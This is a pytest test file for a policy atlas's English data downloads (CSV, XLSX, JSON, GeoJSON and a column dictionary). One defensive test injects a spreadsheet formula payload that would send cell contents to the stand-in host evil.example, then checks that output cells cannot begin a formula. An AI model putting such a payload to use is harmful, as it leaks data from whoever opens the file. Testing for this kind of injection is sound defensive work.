"""The English downloads (en/downloads/): English headers and names with the Chinese beside them,
a dictionary of every column, reproducible files, and the Chinese downloads left as they were.

In-process, on the small every-field project and on the bundled plans; the page itself on the
bundled plans too (rendered alone, without MkDocs).
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

import builder.render.downloads as downloads_module
from builder.atlas import build_atlas
from builder.records import REGISTRY, Column, Registry
from builder.render.compare import compare_data
from builder.render.downloads import build_downloads
from builder.render.english_data import (
    CITATION, EN_DOWNLOAD_DIR, SOURCE, build_english_downloads, english_columns, english_downloads,
)  # fmt: skip
from builder.render.english_pages import EnglishText
from builder.render.pages import PageRenderer
from conftest import ROOT
from english_chrome import chinese_chrome
from hostile import make_project

SITE = "https://atlas.example/"
WHEN = date(2024, 1, 1)
CJK = re.compile(r"[\u3400-\u9fff\u3000-\u303f\uff00-\uffef]")
SHEETS = [rt for rt in REGISTRY if rt.sheet is not None]


@pytest.fixture(scope="module")
def small(tmp_path_factory):
    return build_atlas(make_project(tmp_path_factory.mktemp("english-downloads") / "project", "x"))


@pytest.fixture(scope="module")
def bundled():
    return build_atlas(ROOT)


def _english(atlas, when=WHEN, site=SITE, cache=None):
    return build_english_downloads(atlas, EnglishText(atlas), site, when, cache)


def _rows(files, name: str) -> list[dict]:
    text = files[f"{EN_DOWNLOAD_DIR}/{name}"]
    assert text.startswith("\ufeff")  # Excel reads UTF-8 with the BOM
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def _header(files, name: str) -> list[str]:
    return next(csv.reader(io.StringIO(files[f"{EN_DOWNLOAD_DIR}/{name}"].removeprefix("\ufeff"))))


# --- the declarations ---------------------------------------------------------------------------


def test_every_column_of_every_sheet_declares_its_english():
    for rt in SHEETS:
        assert rt.sheet.en_label and rt.sheet.en_about and not CJK.search(rt.sheet.en_label + rt.sheet.en_about), rt.name
        for column in rt.sheet.columns:
            assert column.en and re.fullmatch(r"[a-z][a-z0-9_]*", column.en), (rt.name, column.header)
            assert column.about and not CJK.search(column.about), (rt.name, column.en)
            assert column.zh is None or re.fullmatch(r"[a-z][a-z0-9_]*_(zh|as_written)", column.zh), (rt.name, column.zh)
            if column.english is None and column.kind == "text" and column.en not in ("id",) and not column.en.endswith(("_id", "_zh")):
                # a text column without an English value holds ids or the plan's own words: its name says so
                assert column.en.endswith(("_as_written", "_ids")) or column.en == "reports_on", (rt.name, column.en)
        headers = [c.header for c in english_columns(rt)]
        assert len(headers) == len(set(headers)), rt.name


# --- the files ----------------------------------------------------------------------------------


def test_the_english_files_sit_beside_the_english_pages_and_the_chinese_ones_are_unchanged_in_name(small):
    files, datasets = _english(small)
    expected = {f"{EN_DOWNLOAD_DIR}/{n}" for n in ("atlas.json", "atlas.xlsx", "places.geojson", "districts.geojson", "dictionary.csv")}
    assert set(files) == expected | {f"{EN_DOWNLOAD_DIR}/{rt.sheet.file}" for rt in SHEETS}
    assert [d.name for d in datasets] == [rt.name for rt in SHEETS]
    chinese, _ = build_downloads(small, SITE, WHEN)
    assert not set(files) & set(chinese) and all(path.startswith("downloads/") for path in chinese)


def test_every_english_csv_has_english_headers_and_a_row_per_record(small):
    files, datasets = _english(small)
    for rt, dataset in zip(SHEETS, datasets):
        header = _header(files, rt.sheet.file)
        assert header == [c.header for c in english_columns(rt)] == [c.header for c in dataset.columns]
        assert not [h for h in header if CJK.search(h)], rt.sheet.file
        assert header[-2:] == [c.header for c in CITATION] and (SOURCE.header in header) == bool(rt.english)
        rows = _rows(files, rt.sheet.file)
        assert len(rows) == dataset.records == len(small.records[rt.folder])
        for row, record in zip(rows, small.records[rt.folder].values()):
            first = record.citations[0]
            assert row["quote_zh"] == first.quote and row["source"] == f"{SITE}plans/{first.plan}/#{first.para}"


def test_names_are_english_with_the_chinese_beside_them(small):
    files, _ = _english(small)
    park = next(r for r in _rows(files, "places.csv") if r["id"] == "park-x")
    assert (park["name"], park["name_zh"]) == ("Park x", "园区x")
    assert (park["district"], park["district_zh"], park["district_id"]) == ("District A x", "甲区x", "longgang")
    assert (park["kind"], park["precision"]) == ("Advanced manufacturing park", "Schematic extent")  # labels in English
    assert (park["street"], park["street_zh"]) == ("Street x", "街道x")
    assert park["page"] == "en/places/park-x/" and park["en_source"] == "editorial"
    city = next(r for r in _rows(files, "clusters.csv") if r["id"] == "city-x")
    assert city["layout_districts"] == "District A x; District B x" and city["layout_districts_zh"] == "甲区x、乙区x"
    assert city["level"] == "City strategic emerging industry cluster" and city["focus"] == "Focus x"
    task = _rows(files, "tasks.csv")[0]
    assert task["lead"] == "Department x" and task["lead_zh"] == "部门x" and (task["title"], task["title_zh"]) == ("Task x", "任务x")
    plan = _rows(files, "plans.csv")[0]
    assert (plan["title"], plan["issued"], plan["issued_as_written"], plan["status"]) == ("Plan x", "January 2024", "2024-01", "Issued")


def test_figures_keep_the_plans_words_beside_the_english_and_the_numbers(bundled):
    files, _ = _english(bundled)
    rows = {r["id"]: r for r in _rows(files, "indicators.csv")}
    row = rows["lg14-gross-industrial-output"]
    assert (row["target"], row["target_as_written"], row["target_number"], row["target_year"]) == ("RMB 1.4 trillion", "14000", "14000", "2025")
    assert (row["unit"], row["unit_zh"], row["name_zh"]) == ("RMB 100 million", "亿元", "规上工业总产值")
    assert not CJK.search(row["name"] + row["plan"] + row["district"])
    chinese = {r["id"]: r for r in csv.DictReader(io.StringIO(build_downloads(bundled)[0]["downloads/indicators.csv"].removeprefix("\ufeff")))}
    for indicator_id, english in rows.items():  # the numbers are the Chinese table's, to the digit
        for figure in ("base", "target", "actual"):
            zh = {"base": "基数", "target": "目标", "actual": "实际"}[figure]
            assert english[f"{figure}_as_written"] == chinese[indicator_id][f"{zh}（原文）"]
            assert english[f"{figure}_number"] == chinese[indicator_id][f"{zh}（数值）"]
    qualified = [r for r in rows.values() if r["target_comparator"]]
    assert qualified and not [r["target_comparator"] for r in qualified if CJK.search(r["target_comparator"])]
    project = next(r for r in _rows(files, "projects.csv") if r["id"] == "lg14-pinghu-smart-terminal-park")
    assert (project["investment"], project["investment_as_written"], project["investment_rmb_100m"]) == ("about RMB 1 billion", "约 10 亿元", "10")


def test_bundled_names_are_english_where_the_content_has_english(bundled):
    files, _ = _english(bundled)
    en = EnglishText(bundled)
    for rt in SHEETS:
        if "name" not in [c.en for c in rt.sheet.columns]:
            continue
        for row in _rows(files, rt.sheet.file):
            record = bundled.records[rt.folder][row["id"]]
            assert row["name_zh"] == record.name
            assert row["name"] == en.plain(record)
            if en.text(record) is not None:
                assert row["en_source"] in ("editorial", "official") and not CJK.search(row["name"]), (rt.name, row["id"])
            else:
                assert row["en_source"] == "" and row["name"] == record.name
    places = {r["id"]: r for r in _rows(files, "places.csv")}
    assert places["longgang-west"]["district"] == "Longgang District" and places["longgang-west"]["district_zh"] == "龙岗区"


def test_the_workbook_has_an_english_sheet_per_dataset_typed_like_the_chinese(bundled):
    files, datasets = _english(bundled)
    book = load_workbook(io.BytesIO(files[f"{EN_DOWNLOAD_DIR}/atlas.xlsx"]))
    assert book.sheetnames == [d.label for d in datasets] == [rt.sheet.en_label for rt in SHEETS]
    assert book.properties.creator == "Shenzhen Industrial Policy Atlas build"
    for rt, ws in zip(SHEETS, book.worksheets):
        header = [c.value for c in ws[1]]
        assert header == [c.header for c in english_columns(rt)] and not [h for h in header if CJK.search(h)]
        assert ws.max_row == len(bundled.records[rt.folder]) + 1
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate)
    indicators = book["Indicators"]
    header = [c.value for c in indicators[1]]
    rows = {r[0]: dict(zip(header, r)) for r in indicators.iter_rows(min_row=2, values_only=True)}
    assert rows["lg14-industrial-value-added"]["base_number"] == 2784.59 and isinstance(rows["lg14-industrial-value-added"]["base_year"], int)
    projects = book["Projects"]
    header = [c.value for c in projects[1]]
    assert any(isinstance(dict(zip(header, r))["start_date"], datetime) for r in projects.iter_rows(min_row=2, values_only=True))


def test_the_json_holds_the_english_tables_with_every_citation(small):
    files, datasets = _english(small)
    data = json.loads(files[f"{EN_DOWNLOAD_DIR}/atlas.json"])
    assert list(data) == [rt.folder for rt in SHEETS]
    for rt, dataset in zip(SHEETS, datasets):
        records = list(small.records[rt.folder].values())
        assert len(data[rt.folder]) == len(records)
        for item, record in zip(data[rt.folder], records):
            assert list(item) == [c.header for c in dataset.columns[: -len(CITATION)]] + ["citations"]
            assert [c["quote_zh"] for c in item["citations"]] == [c.quote for c in record.citations]
            assert item["citations"][0]["url"] == f"{SITE}plans/{record.citations[0].plan}/#{record.citations[0].para}"
    park = next(p for p in data["places"] if p["id"] == "park-x")
    assert park["name"] == "Park x" and park["name_zh"] == "园区x" and isinstance(park["area_km2"], float)
    assert data["plans"][0]["issued_date"] == "2024-01-01"  # dates as ISO text


def test_geojson_in_english(small):
    files, _ = _english(small)
    places = json.loads(files[f"{EN_DOWNLOAD_DIR}/places.geojson"])
    chinese = json.loads(build_downloads(small, SITE, WHEN)[0]["downloads/places.geojson"])
    assert [f["geometry"] for f in places["features"]] == [f["geometry"] for f in chinese["features"]]
    park = places["features"][0]["properties"]
    assert park == {
        "id": "park-x", "name": "Park x", "name_zh": "园区x", "kind": "Advanced manufacturing park", "district": "longgang",
        "district_name": "District A x", "district_name_zh": "甲区x", "clusters": ["district-x"], "precision": "Schematic extent",
        "basis_zh": "依据x", "url": SITE + "en/places/park-x/",
    }  # fmt: skip
    districts = json.loads(files[f"{EN_DOWNLOAD_DIR}/districts.geojson"])
    assert districts["features"][0]["properties"]["name"] == "District A x" and districts["features"][0]["properties"]["name_zh"] == "甲区x"


def test_english_cells_cannot_start_a_formula(tmp_path):
    payload = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
    atlas = build_atlas(make_project(tmp_path / "project", payload, leading=True))
    files, _ = _english(atlas)
    for rt in SHEETS:
        rows = list(csv.reader(io.StringIO(files[f"{EN_DOWNLOAD_DIR}/{rt.sheet.file}"].removeprefix("\ufeff"))))
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (rt.sheet.file, cell)
                assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), (rt.sheet.file, cell)
    book = load_workbook(io.BytesIO(files[f"{EN_DOWNLOAD_DIR}/atlas.xlsx"]))
    assert not [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


# --- reproducible; the Chinese downloads untouched ------------------------------------------------


def test_the_english_downloads_are_the_same_bytes_each_build(tmp_path):
    project = make_project(tmp_path / "project", "x")
    first, _ = _english(build_atlas(project))
    again, _ = _english(build_atlas(project))
    assert first == again
    with zipfile.ZipFile(io.BytesIO(first[f"{EN_DOWNLOAD_DIR}/atlas.xlsx"])) as archive:
        assert "2024-01-01" in archive.read("docProps/core.xml").decode()
        dates = {i.date_time for i in archive.infolist()}  # one fixed date in 1980 (XlsxWriter's), not the time of the build
        assert len(dates) == 1 and next(iter(dates))[0] == 1980, dates
    later, _ = _english(build_atlas(project), date(2025, 6, 1))
    assert later[f"{EN_DOWNLOAD_DIR}/atlas.xlsx"] != first[f"{EN_DOWNLOAD_DIR}/atlas.xlsx"]


def test_both_workbooks_stay_in_the_cache(tmp_path, monkeypatch):
    from builder.cache import BuildCache

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    project = make_project(tmp_path / "project", "x")
    atlas = build_atlas(project)
    with BuildCache.open(project) as cache:
        chinese, _ = build_downloads(atlas, SITE, WHEN, cache)
        english, _ = _english(atlas, cache=cache)
        assert list((cache.folder / "workbook").rglob("*")) and list((cache.folder / "workbook-en").rglob("*"))
        made = []
        monkeypatch.setattr(downloads_module, "write_workbook", lambda *args: made.append(args) or b"")
        again, _ = build_downloads(atlas, SITE, WHEN, cache)  # the English workbook did not push the Chinese one out
    assert made == [] and again["downloads/atlas.xlsx"] == chinese["downloads/atlas.xlsx"]
    assert english[f"{EN_DOWNLOAD_DIR}/atlas.xlsx"] != chinese["downloads/atlas.xlsx"]


def _without_english(record_type):
    if record_type.sheet is None:
        return record_type
    columns = tuple(Column(c.header, c.value, c.kind) for c in record_type.sheet.columns)
    return dataclasses.replace(record_type, sheet=dataclasses.replace(record_type.sheet, columns=columns, en_label=None, en_about=""))


def test_the_chinese_downloads_do_not_depend_on_anything_english(bundled, monkeypatch):
    """The Chinese files are what they were before the English edition: its declarations (every
    column's en, english, zh, about) and its names (content/english/) do not reach them."""
    before, datasets = build_downloads(bundled, SITE, WHEN)
    compare_before = compare_data(bundled)
    monkeypatch.setattr(downloads_module, "REGISTRY", Registry([_without_english(rt) for rt in REGISTRY]))
    monkeypatch.setattr(bundled, "english", {})
    monkeypatch.setattr(bundled, "labels", {})
    after, datasets_after = build_downloads(bundled, SITE, WHEN)
    assert after == before and datasets_after == datasets and compare_data(bundled) == compare_before
    assert [h for h, _ in datasets[1].columns][:3] == ["id", "名称", "别称"]  # still the Chinese headers


# --- the page -------------------------------------------------------------------------------------


def test_the_english_downloads_page_lists_every_file_and_describes_every_column(bundled):
    renderer = PageRenderer(bundled, ROOT / "templates", lang="en")
    context = english_downloads(renderer)
    renderer.page("en/downloads/index.md", "downloads.md.j2", title="Data downloads", build_date=renderer.build_date, **context)
    page = renderer.files.text("en/downloads/index.md")
    added = [p for p in renderer.files.generated if p.startswith(f"{EN_DOWNLOAD_DIR}/") and not p.endswith(".md")]
    assert len(added) == len(SHEETS) + 5
    for path in added:
        name = path.rsplit("/", 1)[1]
        assert f'href="{name}" download' in page and context["sizes"][name] in page, name
    for rt in SHEETS:
        assert f'id="dict-{rt.name}"' in page
        for column in english_columns(rt):
            assert f"<code>{column.header}</code>" in page and column.about.replace("'", "&#39;") in page, column.header
    assert "quotes stay in Chinese" in page and "English names are editorial translations" in page and "official" in page
    assert 'href="../../downloads/"' in page  # the Chinese downloads
    assert chinese_chrome(page) == []  # Chinese only inside lang="zh-CN"
    dictionary = list(csv.DictReader(io.StringIO(renderer.files.text(f"{EN_DOWNLOAD_DIR}/dictionary.csv").removeprefix("\ufeff"))))
    assert len(dictionary) == sum(len(english_columns(rt)) for rt in SHEETS) and all(r["description"] for r in dictionary)
